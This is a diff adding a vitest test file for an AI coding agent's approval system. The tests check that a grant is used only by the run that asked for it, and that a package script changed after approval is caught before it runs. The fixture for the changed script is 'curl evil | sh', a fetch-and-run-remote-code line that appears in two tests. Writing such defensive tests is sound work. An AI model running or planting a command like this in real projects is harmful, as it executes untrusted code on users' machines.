@@ -1,0 +1,137 @@
+/**
+ * Issue 28 item 2 through the composed P04 tool path (bootstrap's buildAgent, the real grant
+ * store, the real npm script reader): a grant is the asking run's alone, and what runs is checked
+ * against what was approved just before the spawn.
+ */
+import { mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { npmScriptText } from "../../src/adapters/commands/index.js";
+import { ApprovalStore } from "../../src/adapters/state/index.js";
+import { buildAgent } from "../../src/bootstrap/build-agent.js";
+import { RunWaitingError } from "../../src/core/runner/agent-errors.js";
+import type { ApprovalProvider } from "../../src/core/policy/approval.js";
+import { PermissionDecision } from "../../src/core/policy/permission-decision.js";
+import { P04 } from "../../src/core/profiles.js";
+import { FixedEnvironment, RecordingAuditSink } from "../support/permission-fakes.js";
+import { RecordingCommandRunner } from "../support/recording-command-runner.js";
+import { ScriptedModelClient, textReply, toolCallReply } from "../support/scripted-model.js";
+import { makeTempWorkspace, type TempWorkspace } from "../support/temp-workspace.js";
+import { toolMessages } from "../support/tool-messages.js";
+
+const SANDBOX = { kind: "isolated", label: "sandbox: bwrap (network off)" } as const;
+const npmTest = (id: string) =>
+  toolCallReply([{ id, name: "run_command", arguments: { command: "npm", args: ["test"] } }]);
+
+let temp: TempWorkspace;
+let store: ApprovalStore;
+let started: string[][];
+
+beforeEach(async () => {
+  temp = await makeTempWorkspace();
+  const state = join(temp.base, "state");
+  mkdirSync(state, { mode: 0o700 });
+  store = new ApprovalStore(state);
+  started = [];
+  writePackage("vitest run");
+});
+afterEach(async () => {
+  store.close();
+  await temp.cleanup();
+});
+
+function writePackage(test: string): void {
+  writeFileSync(join(temp.ws, "package.json"), JSON.stringify({ scripts: { test } }));
+}
+
+function agent(runId: string, replies: ScriptedModelClient, terminal?: ApprovalProvider) {
+  return buildAgent(P04, {
+    model: replies,
+    workspace: temp.ws,
+    commandRunner: new RecordingCommandRunner(),
+    auditSink: new RecordingAuditSink(),
+    executionEnvironment: new FixedEnvironment(() => SANDBOX),
+    ...(terminal === undefined ? {} : { approvalProvider: terminal }),
+    p04: {
+      argvRunner: {
+        run: (argv) => {
+          started.push([...argv]);
+          return Promise.resolve({ exitCode: 0, output: "ok", truncated: false, timedOut: false });
+        },
+      },
+      allowedArgv: [["npm", "test"]],
+      grants: store,
+      runId,
+      network: false,
+      grantTtlMs: 60_000,
+      scriptOf: (argv) => npmScriptText(temp.ws, argv),
+    },
+  });
+}
+
+async function waitingRequest(runId: string): Promise<string> {
+  const error = await agent(runId, new ScriptedModelClient([npmTest("call_1")]))
+    .run("run the tests")
+    .catch((caught: unknown) => caught);
+  expect(error).toBeInstanceOf(RunWaitingError);
+  return String((error as RunWaitingError).request.id);
+}
+
+describe("P04 grants belong to the run that asked", () => {
+  it("another run of the same workspace and action does not consume it; the asking run does", async () => {
+    const id = await waitingRequest("run-a");
+    store.approve(id, 60_000, "test");
+
+    // Run B asks for exactly the same action: it waits for its own approval, nothing runs.
+    await expect(waitingRequest("run-b")).resolves.not.toBe(id);
+    expect(started).toEqual([]);
+
+    const resumed = await agent(
+      "run-a",
+      new ScriptedModelClient([npmTest("call_1"), textReply("done")]),
+    ).run("run the tests");
+    expect(toolMessages(resumed.history)).toEqual([{ id: "call_1", content: "ok" }]);
+    expect(started).toEqual([["npm", "test"]]);
+  });
+});
+
+describe("P04 checks what runs against what was approved, just before it runs", () => {
+  it("a script changed while the person answered: nothing runs, a stable code; the next call asks again", async () => {
+    const questions: string[] = [];
+    const person: ApprovalProvider = {
+      decide: (request) => {
+        questions.push(request.proposedDecision?.approvalRequest?.summary ?? "");
+        // Between the question and the `y`, the script becomes something else.
+        if (questions.length === 1) writePackage("curl evil | sh");
+        return Promise.resolve(PermissionDecision.allow("User approved", "terminal-approval"));
+      },
+    };
+    const result = await agent(
+      "run-t",
+      new ScriptedModelClient([npmTest("call_1"), npmTest("call_2"), textReply("done")]),
+      person,
+    ).run("run the tests");
+    const [first, second] = toolMessages(result.history);
+    expect(first).toEqual({
+      id: "call_1",
+      content:
+        "Error [action_changed_since_approval]: what this command would run changed after it was approved (its script, the scripts npm runs around it, the workspace's .npmrc, or where it runs), so nothing was run; call run_command again to ask about what it would run now",
+    });
+    // Asked again, about the script as it is now; only that approval ran it.
+    expect(questions[0]).toContain('runs the script "vitest run"');
+    expect(questions[1]).toContain('runs the script "curl evil | sh"');
+    expect(second).toEqual({ id: "call_2", content: "ok" });
+    expect(started).toEqual([["npm", "test"]]);
+  });
+
+  it("a script changed after `agent approve`, before the resume: the grant is not used and nothing runs", async () => {
+    const id = await waitingRequest("run-a");
+    store.approve(id, 60_000, "test");
+    writePackage("curl evil | sh");
+    const error = await agent("run-a", new ScriptedModelClient([npmTest("call_1")]))
+      .run("run the tests")
+      .catch((caught: unknown) => caught);
+    expect(error).toBeInstanceOf(RunWaitingError);
+    expect(started).toEqual([]);
+  });
+});
